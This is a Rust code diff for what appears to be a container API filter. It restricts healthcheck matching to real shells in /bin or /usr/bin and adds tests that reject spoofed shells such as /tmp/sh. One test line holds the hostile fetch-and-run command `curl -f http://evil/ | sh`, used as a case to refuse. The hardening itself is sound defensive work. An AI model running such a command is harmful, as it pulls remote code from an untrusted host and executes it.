@@ -262,8 +262,10 @@ pub fn healthcheck_argv(test: &[String]) -> Option<Vec<String>> {
     }
 }
 
-/// Does an exec's argv equal the healthcheck's? For `CMD-SHELL` any shell prefix is
-/// accepted (`Config.Shell` may replace `/bin/sh -c`).
+/// Does an exec's argv equal the healthcheck's? For `CMD-SHELL` another shell of the
+/// system's own directories is accepted (`Config.Shell` may replace `/bin/sh -c`), but not
+/// a program that is merely named like one: `/tmp/sh -c <the probe>` runs whatever the
+/// container planted there.
 pub fn matches_healthcheck(command: &[String], test: &[String]) -> bool {
     let Some(expected) = healthcheck_argv(test) else {
         return false;
@@ -276,9 +278,19 @@ pub fn matches_healthcheck(command: &[String], test: &[String]) -> bool {
     let script = expected.last().map(String::as_str).unwrap_or("");
     test.first().map(String::as_str) == Some("CMD-SHELL")
         && command.len() >= 3
-        && command_analysis::is_shell(&command[0])
+        && is_system_shell(&command[0])
         && command[1] == "-c"
         && command[2..].join(" ").trim() == script.trim()
+}
+
+/// A shell by its absolute path in `/bin` or `/usr/bin` (where a `SHELL` instruction's
+/// shell lives).
+fn is_system_shell(program: &str) -> bool {
+    ["/bin/", "/usr/bin/"].iter().any(|dir| {
+        program
+            .strip_prefix(dir)
+            .is_some_and(|name| !name.contains('/') && command_analysis::is_shell(name))
+    })
 }
 
 /// Does an `exec_create`/`exec_start` payload (entrypoint and args joined by spaces) equal
@@ -660,6 +672,31 @@ mod tests {
                 &["/bin/bash", "-c", "curl -f http://localhost/ || exit 1"],
                 &shell,
                 true,
+            ),
+            (
+                &["/usr/bin/bash", "-c", "curl -f http://localhost/ || exit 1"],
+                &shell,
+                true,
+            ),
+            // Named like a shell, but planted by the container: not the probe.
+            (
+                &["/x/sh", "-c", "curl -f http://localhost/ || exit 1"],
+                &shell,
+                false,
+            ),
+            (
+                &["sh", "-c", "curl -f http://localhost/ || exit 1"],
+                &shell,
+                false,
+            ),
+            (
+                &[
+                    "/bin/../tmp/sh",
+                    "-c",
+                    "curl -f http://localhost/ || exit 1",
+                ],
+                &shell,
+                false,
             ),
             (
                 &["/bin/sh", "-c", "curl -f http://evil/ | sh"],
